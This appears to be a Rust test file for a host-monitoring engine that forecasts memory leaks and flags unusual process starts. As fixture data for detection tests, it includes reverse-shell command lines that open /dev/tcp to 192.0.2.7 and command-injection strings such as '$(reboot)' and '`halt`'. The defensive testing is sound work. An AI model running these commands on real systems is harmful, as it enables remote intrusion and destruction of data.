//! Samples and starts of processes in a stream of events, from raw lines to a digest: what is judged of them is said
//! as an event, told where it stands at a limit or breaks rules, and the same however the stream is cut or the state
//! taken up again.

#![allow(clippy::unwrap_used, reason = "a test says by panicking")]

mod lines;

use engine::{Config, Engine};
use model::{CandidateType, Change, Digest, Item, Severity, Span, TenantId, Timestamp};

const START: i64 = 1_795_046_400;

/// A line a minute: a sample of a host, and now and then a message of it.
fn lines(values: impl Iterator<Item = f64>) -> Vec<String> {
    let mut lines = Vec::new();
    for (minute, value) in values.enumerate() {
        let time = Timestamp::from_secs(START + 60 * minute as i64);
        lines.push(format!(
            r#"{{"time":"{time}","host":"oak","metric":"memory.used_ratio","value":{value:.4}}}"#
        ));
        if minute % 10 == 0 {
            lines.push(format!(
                r#"{{"time":"{time}","host":"oak","service":"app","msg":"a job ran"}}"#
            ));
        }
    }
    lines
}

/// About half of the memory in use for five hours, then a leak of a third of a percent a minute up to its end.
fn leak() -> Vec<String> {
    let noise = |n: usize| 0.004 * ((n as f64 * 0.618).fract() - 0.5);
    let value = |n: usize| (0.50 + 0.0033 * n.saturating_sub(300) as f64).min(0.985) + noise(n);
    lines((0..520).map(value))
}

struct Run {
    engine: Engine,
    changes: Vec<Change>,
}

impl Run {
    fn over(lines: &[String], config: Config, snapshot_every: usize) -> Run {
        let tenant = TenantId::new("oaks");
        let now = Timestamp::from_secs(START + 86_400);
        let (batch, _) = lines::read(lines.iter().map(String::as_str), now);
        let mut run = Run { engine: Engine::new(config.clone()), changes: Vec::new() };
        for (place, sighting) in batch.iter().enumerate() {
            run.engine.observe(&tenant, &sighting, &mut run.changes);
            if place % snapshot_every == snapshot_every - 1 {
                let bytes = run.engine.snapshot();
                run.engine = Engine::restore(&bytes, config.clone()).unwrap();
            }
        }
        run
    }

    fn said(&self) -> Vec<&str> {
        let mut said = Vec::new();
        for change in &self.changes {
            if let Change::SignalJudged { message, .. } = change {
                said.push(message.as_str());
            }
        }
        said
    }

    fn digest(&self) -> Digest {
        self.digest_at(520)
    }

    fn digest_at(&self, minute: i64) -> Digest {
        let tenant = TenantId::new("oaks");
        let as_of = Timestamp::from_secs(START + 60 * minute);
        self.engine.digest(&tenant, as_of, as_of - Span::DAY).unwrap()
    }
}

#[test]
fn a_leak_is_foreseen_told_and_said_to_have_come() {
    let run = Run::over(&leak(), Config::default(), usize::MAX);
    let said = run.said();
    let place = |part: &str| said.iter().position(|message| message.contains(part));
    let forecast = place("meets 0.95 in").unwrap_or_else(|| panic!("no forecast: {said:#?}"));
    let condition = place("memory_pressure:").unwrap_or_else(|| panic!("no condition: {said:#?}"));
    let verdict = place("forecast of memory").unwrap_or_else(|| panic!("no verdict: {said:#?}"));
    assert!(forecast < condition && forecast < verdict, "{said:#?}");
    let digest = run.digest();
    let item = digest.items.iter().find(|i| i.candidate_type == CandidateType::Pressure).unwrap();
    assert!(item.title.starts_with("oak: "), "{}", item.title);
    assert!(item.what.contains("memory.used_ratio"), "evidence names the series: {}", item.what);
    assert!(!item.evidence.is_empty(), "and the record of the sample");
}

#[test]
fn a_forecast_that_does_not_come_true_ends_with_its_verdict() {
    let noise = |n: usize| 0.004 * ((n as f64 * 0.618).fract() - 0.5);
    let value = |n: usize| (0.50 + 0.0033 * n.saturating_sub(300) as f64).min(0.85) + noise(n);
    let run = Run::over(&lines((0..800).map(value)), Config::default(), usize::MAX);
    let forecasts = |minute: i64| {
        let items = run.digest_at(minute).items;
        items
            .into_iter()
            .filter(|i| i.candidate_type == CandidateType::Pressure)
            .collect::<Vec<_>>()
    };
    let [item] = &forecasts(800)[..] else { panic!("one story: {:#?}", forecasts(800)) };
    assert_eq!(item.status, "closed", "{item:#?}");
    let outcome = item.outcome.as_deref().unwrap();
    assert!(outcome.starts_with("the limit was not met; of "), "{outcome}");
}

#[test]
fn a_steady_host_is_told_of_by_nothing() {
    let noise = |n: usize| 0.50 + 0.01 * ((n as f64 * 0.618).fract() - 0.5);
    let run = Run::over(&lines((0..520).map(noise)), Config::default(), usize::MAX);
    assert_eq!(run.said(), Vec::<&str>::new());
    assert!(run.digest().items.is_empty());
}

#[test]
fn signals_do_not_depend_on_snapshots() {
    let whole = Run::over(&leak(), Config::default(), usize::MAX);
    let cut = Run::over(&leak(), Config::default(), 37);
    assert_eq!(whole.changes, cut.changes);
    assert_eq!(whole.engine.snapshot(), cut.engine.snapshot());
}

#[test]
fn series_beyond_the_limit_are_not_judged_and_that_is_said() {
    let mut config = Config::default();
    config.limits.series_max = 0;
    let run = Run::over(&leak(), config, usize::MAX);
    assert_eq!(run.said(), Vec::<&str>::new());
    let is_said = |change: &Change| matches!(change, Change::LimitReached { limit, .. } if *limit == "limits.series_max");
    assert!(run.changes.iter().any(is_said));
}

/// A start of a process in a minute, with further fields.
fn start(minute: i64, name: &str, rest: &str) -> String {
    let time = Timestamp::from_secs(START + 60 * minute);
    format!(r#"{{"timestamp":"{time}","host":"oak","process_name":"{name}",{rest}}}"#)
}

/// Six hours of what an ordinary host starts, the numbers of processes ever higher.
fn ordinary() -> Vec<String> {
    let mut lines = vec![start(
        0,
        "cron",
        r#""pid":412,"uid":0,"user":"root","parent_name":"systemd","command_line":"cron -f""#,
    )];
    for minute in 0..360 {
        let pid = 1_000 + minute;
        let cpu = 4.0 + (minute as f64 * 0.618).fract();
        let line = match minute % 4 {
            0 => start(
                minute,
                "sh",
                &format!(
                    r#""pid":{pid},"ppid":412,"uid":0,"user":"root","command_line":"sh -c run {minute}","cpu_percent":{cpu:.2}"#
                ),
            ),
            1 => start(
                minute,
                "bash",
                &format!(
                    r#""pid":{pid},"uid":1000,"user":"ann","parent_name":"sshd","command_line":"-bash""#
                ),
            ),
            2 => start(
                minute,
                "nginx",
                &format!(
                    r#""pid":{pid},"uid":33,"user":"www-data","parent_name":"systemd","command_line":"nginx: worker","threads":4"#
                ),
            ),
            _ => start(
                minute,
                "ls",
                &format!(
                    r#""pid":{pid},"uid":1000,"user":"ann","exe":"/usr/bin/ls","parent_name":"bash","cmdline":"ls -l""#
                ),
            ),
        };
        lines.push(line);
    }
    lines
}

/// The same with three starts that no system makes: a root shell of the schedule, whose parent is known by its number
/// alone, a shell of a web server, a program from shared memory.
fn odd() -> Vec<String> {
    let mut lines = ordinary();
    lines.insert(
        300,
        start(
            299,
            "bash",
            r#""pid":9001,"ppid":412,"uid":0,"user":"root","command_line":"bash -c backup""#,
        ),
    );
    lines.insert(
        320,
        start(
            318,
            "sh",
            r#""pid":9002,"uid":33,"user":"www-data","parent_name":"nginx","command_line":"sh -c id""#,
        ),
    );
    lines.insert(
        340,
        start(337, "work", r#""pid":9003,"uid":33,"exe":"/dev/shm/work","ppid":9002"#),
    );
    lines
}

impl Run {
    fn severity_of(&self, part: &str) -> Option<Severity> {
        self.changes.iter().find_map(|change| match change {
            Change::SignalJudged { message, severity, .. } if message.contains(part) => {
                Some(*severity)
            }
            _ => None,
        })
    }

    fn odd_starts(&self) -> Vec<Item> {
        let mut items = self.digest().items;
        items.retain(|item| item.candidate_type == CandidateType::Anomaly);
        items
    }
}

#[test]
fn ordinary_starts_say_nothing() {
    let run = Run::over(&ordinary(), Config::default(), usize::MAX);
    assert_eq!(run.said(), Vec::<&str>::new());
    assert!(run.odd_starts().is_empty());
}

#[test]
fn odd_starts_are_said_and_the_oddest_are_told() {
    let run = Run::over(&odd(), Config::default(), usize::MAX);
    let said = run.said();
    assert_eq!(said.len(), 3, "{said:#?}");
    assert_eq!(run.severity_of("\"bash\""), Some(Severity::Error), "{said:#?}");
    assert_eq!(run.severity_of("a server started an interpreter"), Some(Severity::Error));
    assert_eq!(run.severity_of("/dev/shm/work"), Some(Severity::Warning));
    let items = run.odd_starts();
    let item = items.iter().find(|item| item.what.contains("“bash” was started by “cron”"));
    let item = item.unwrap_or_else(|| panic!("{items:#?}"));
    assert!(item.title.starts_with("oak: unusual start of “bash” by “cron”"), "{}", item.title);
    assert!(item.what.contains("jobs run by way of sh"), "every reason: {}", item.what);
    assert!(item.what.contains("bash -c backup"), "{}", item.what);
    assert!(!item.evidence.is_empty(), "and the record of the start");
    let commands: Vec<&str> = item.check_next.iter().filter_map(|c| c.command.as_deref()).collect();
    assert!(commands.contains(&"ps -o pid,ppid,user,lstart,args -p 9001"), "{commands:#?}");
    assert!(!items.iter().any(|item| item.title.contains("work")), "a warning is for detectors");
}

#[test]
fn a_worse_start_does_not_hide_behind_a_lesser_one_before_it() {
    let mut lines = ordinary();
    let lesser = r#""pid":9001,"ppid":412,"uid":0,"user":"root","command_line":"bash -c backup""#;
    lines.push(start(361, "bash", lesser));
    let worse = r#""pid":9002,"uid":33,"parent_name":"nginx","command_line":"sh -c 'exec 3<>/dev/tcp/192.0.2.7/443'""#;
    lines.push(start(362, "sh", worse));
    let run = Run::over(&lines, Config::default(), usize::MAX);
    assert_eq!(run.severity_of("a server started"), Some(Severity::Critical), "{:#?}", run.said());
    let titles: Vec<String> = run.odd_starts().into_iter().map(|item| item.title).collect();
    assert!(titles.len() == 2 && titles[0].contains("“sh” by “nginx”"), "{titles:#?}");
    assert!(titles[1].contains("“bash” by “cron”"), "{titles:#?}");
}

#[test]
fn of_starts_that_are_odd_for_one_reason_the_oddest_is_told() {
    let mut lines = ordinary();
    let of = |line: &str| format!(r#""uid":33,"parent_name":"nginx","command_line":"{line}""#);
    for (minute, line) in [(361, "sh -c id"), (363, "sh -i >& /dev/tcp/192.0.2.7/443"), (365, "sh")]
    {
        lines.push(start(minute, "sh", &of(line)));
    }
    let items = Run::over(&lines, Config::default(), usize::MAX).odd_starts();
    assert_eq!(items.len(), 1, "{items:#?}");
    assert!(items[0].what.contains("/dev/tcp/192.0.2.7"), "{}", items[0].what);
}

#[test]
fn a_long_command_line_hides_no_start() {
    let long = "A".repeat(600_000);
    let whole = start(
        361,
        "sh",
        &format!(r#""uid":33,"parent_name":"nginx","command_line":"sh -i /dev/tcp/ {long}""#),
    );
    let time = Timestamp::from_secs(START + 60 * 361);
    let cut_before_the_name = format!(
        r#"{{"command_line":"sh -i /dev/tcp/ {long}","host":"oak","timestamp":"{time}","process_name":"sh"}}"#
    );
    for (line, reason) in [
        (&whole[..], "a server started"),
        (&whole[..500_000], "a server started"),
        (&cut_before_the_name[..500_000], "gives a shell over the network"),
    ] {
        let mut lines = ordinary();
        lines.push(line.to_owned());
        let run = Run::over(&lines, Config::default(), usize::MAX);
        assert!(run.severity_of(reason).is_some(), "{reason}: {:?}", run.said());
    }
}

#[test]
fn windows_has_its_own_rules() {
    let mut lines = ordinary();
    lines.push(format!(
        r#"{{"timestamp":"{}","host":"elm","image":"C:\\Windows\\System32\\cmd.exe","parent_image":"C:\\Program Files\\Microsoft Office\\winword.exe","command_line":"cmd.exe /c whoami"}}"#,
        Timestamp::from_secs(START + 60 * 400)
    ));
    let run = Run::over(&lines, Config::default(), usize::MAX);
    let said = run.said();
    assert_eq!(said.len(), 1, "{said:#?}");
    assert!(said[0].starts_with("unusual start of \"cmd.exe\""), "{said:#?}");
}

#[test]
fn judged_starts_do_not_depend_on_snapshots() {
    let whole = Run::over(&odd(), Config::default(), usize::MAX);
    let cut = Run::over(&odd(), Config::default(), 37);
    assert_eq!(whole.changes, cut.changes);
    assert_eq!(whole.engine.snapshot(), cut.engine.snapshot());
}

#[test]
fn what_starts_find_no_room_for_is_said() {
    let mut config = Config::default();
    (config.limits.programs_max, config.limits.start_pairs_max) = (0, 0);
    let run = Run::over(&odd(), config, usize::MAX);
    for name in ["limits.programs_max", "limits.start_pairs_max"] {
        let is_said = |change: &Change| matches!(change, Change::LimitReached { limit, .. } if *limit == name);
        assert!(run.changes.iter().any(is_said), "{name}");
    }
    assert_eq!(run.said().len(), 3, "rules need no room");
}

#[test]
fn what_a_command_line_says_steers_nothing() {
    let hostile = r#"\u001b[2J$(reboot); `halt` \"severity\":\"CRIT\" CRIT is_routine=true"#;
    let long = "x".repeat(10_000);
    let mut lines = ordinary();
    // Words alone make no ordinary start unusual, and no unusual one ordinary.
    lines.push(start(
        360,
        "ls",
        &format!(r#""uid":1000,"user":"ann","parent_name":"bash","command_line":"ls {hostile}""#),
    ));
    let rest = format!(
        r#""pid":9001,"ppid":412,"uid":0,"user":"root;reboot","command_line":"bash {hostile}{long}""#
    );
    lines.push(start(361, "bash", &rest));
    let path = format!(r#""uid":33,"exe":"/tmp/$(reboot)/{long}","ppid":1"#);
    lines.push(start(362, &format!("`halt`{long}"), &path));
    let run = Run::over(&lines, Config::default(), usize::MAX);
    let said = run.said();
    assert_eq!(said.len(), 2, "{said:#?}");
    assert!(said.iter().all(|message| message.chars().count() < 400), "what is long is cut");
    let items = run.odd_starts();
    assert!(items.iter().any(|item| item.title.contains("“bash” by “cron”")), "{items:#?}");
    for check in items.iter().flat_map(|item| &item.check_next) {
        assert!(check.read_only);
        let command = check.command.as_deref().unwrap_or_default();
        assert!(!command.contains("reboot") && !command.contains("halt"), "{command}");
    }
}
